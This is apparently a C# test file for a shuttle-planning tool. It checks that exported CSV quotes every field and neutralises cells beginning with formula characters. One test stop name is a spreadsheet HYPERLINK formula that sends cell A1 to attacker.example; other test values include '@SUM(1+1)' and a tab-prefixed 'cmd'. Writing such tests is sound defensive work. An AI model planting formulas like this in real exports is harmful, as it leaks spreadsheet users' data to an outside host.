using Mobility.Routing;
using System.Text;
using Mobility.Cli.Commands;
using Mobility.Data.Export;
using Mobility.Data.Import;
using Mobility.Planning;
using Mobility.Planning.Shuttles;
using Mobility.Planning.TravelTimes;

namespace Mobility.Cli.Tests;

/// <summary>What the product writes as CSV, read back as a spreadsheet would see each cell.</summary>
public class CsvOutputTests
{
    private static ImportTable ReadBack(string path, params string[] columns) =>
        ImportTable.Read(File.OpenRead(path), columns.ToDictionary(c => c, _ => Array.Empty<string>()));

    private static string Written(string text)
    {
        var path = Path.Combine(Path.GetTempPath(), $"mobility-{Guid.NewGuid():N}.csv");
        File.WriteAllText(path, text, Encoding.UTF8);
        return path;
    }

    [Fact]
    public void A_stop_named_like_a_formula_reaches_shuttles_csv_as_text()
    {
        const string plant = "=HYPERLINK(\"http://attacker.example/?\"&A1,\"Cliquez\")";
        var depot = new ShuttleStop("D", "@SUM(1+1)", new GeoPoint(48.8, 7.7), ShuttleStopKind.Depot);
        var site = new ShuttleStop("S", plant, new GeoPoint(48.81, 7.79), ShuttleStopKind.Site);
        var at = new DateTimeOffset(2026, 11, 23, 4, 30, 0, TimeSpan.Zero);
        var trip = new ComputedShuttleTrip("-minibus 1", new VehicleType("m", "Minibus", 8, 1, 30, 200), CommuteDirection.ToWork,
            [new ComputedShuttleCall(depot, at, at, 3, 0, 3), new ComputedShuttleCall(site, at.AddMinutes(20), at.AddMinutes(21), 0, 3, 0)], 12, 1, 40, 2);
        var wave = new ShuttleWave(at.AddMinutes(30), at, 3, 0, [trip], [], 30, 0, 120, Problem: null!, Solution: null!);
        var path = Written(ShuttlePlanFiles.Csv(new ComputedShuttlePlan([wave])));
        try
        {
            var table = ReadBack(path, "stop", "vehicle", "boarding", "alighting");
            Assert.Equal(["'@SUM(1+1)", "'" + plant], table.Rows.Select(r => table.Value(r, "stop")));
            Assert.All(table.Rows, r => Assert.Equal("'-minibus 1", table.Value(r, "vehicle")));
            Assert.Equal(["3", "0"], table.Rows.Select(r => table.Value(r, "boarding")));
            Assert.All(File.ReadAllLines(path), line => Assert.StartsWith("\"", line));
        }
        finally { File.Delete(path); }
    }

    [Fact]
    public void Every_field_is_quoted_numbers_keep_their_sign_and_only_text_is_defused()
    {
        var path = Written(string.Join('\n',
            CsvFields.Line("text", "signed", "negative", "minutes", "phone", "tabbed", "quoted"),
            CsvFields.Line("-2+3", -7.75, "-48.5", CsvFields.Fixed(-12.25, 1), "+33 6 12", "\tcmd", "dit \"bonjour\", puis part")) + "\n");
        try
        {
            string[] columns = ["text", "signed", "negative", "minutes", "phone", "tabbed", "quoted"];
            var table = ReadBack(path, columns);
            var row = Assert.Single(table.Rows);
            Assert.Equal(["'-2+3", "-7.75", "-48.5", (-12.25).ToString("F1", System.Globalization.CultureInfo.InvariantCulture), "'+33 6 12", "'\tcmd", "dit \"bonjour\", puis part"],
                columns.Select(c => table.Value(row, c)));
            Assert.Equal(7, File.ReadAllLines(path)[1].Split("\",\"").Length);
        }
        finally { File.Delete(path); }
    }
}
